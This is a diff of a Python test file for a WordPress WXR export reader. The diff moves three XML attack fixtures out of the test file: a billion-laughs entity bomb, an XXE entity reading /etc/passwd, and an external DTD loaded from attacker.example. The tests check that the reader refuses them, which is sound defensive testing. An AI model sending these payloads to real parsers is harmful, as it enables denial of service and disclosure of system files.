@@ -14,38 +14,6 @@ def records(text: str) -> list:
     return list(iter_wxr(io.BytesIO(text.encode())))
 
 
-BILLION_LAUGHS = """<?xml version="1.0"?>
-<!DOCTYPE rss [
-  <!ENTITY lol "lol">
-  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
-  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
-  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
-  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
-  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
-  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
-  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
-  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
-  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
-]>
-<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>
-<wp:wxr_version>1.2</wp:wxr_version><title>&lol9;</title>
-</channel></rss>
-"""
-
-XXE = """<?xml version="1.0"?>
-<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
-<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>
-<wp:wxr_version>1.2</wp:wxr_version><title>&secret;</title>
-</channel></rss>
-"""
-
-EXTERNAL_DTD = """<?xml version="1.0"?>
-<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
-<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>
-<wp:wxr_version>1.2</wp:wxr_version></channel></rss>
-"""
-
-
 class WXRReaderTests(SimpleTestCase):
     def test_it_reads_site_authors_terms_and_items_with_meta_and_comments(self) -> None:
         text = exports.export(
@@ -79,10 +47,10 @@ class WXRReaderTests(SimpleTestCase):
 
     def test_it_refuses_entity_expansion(self) -> None:
         with self.assertRaisesMessage(WXRError, "DOCTYPE"):
-            records(BILLION_LAUGHS)
+            records(exports.BILLION_LAUGHS)
 
     def test_it_refuses_external_entities_and_dtds(self) -> None:
-        for text in (XXE, EXTERNAL_DTD):
+        for text in (exports.XXE, exports.EXTERNAL_DTD):
             with self.assertRaises(WXRError) as caught:
                 records(text)
             self.assertIn("refused", str(caught.exception))
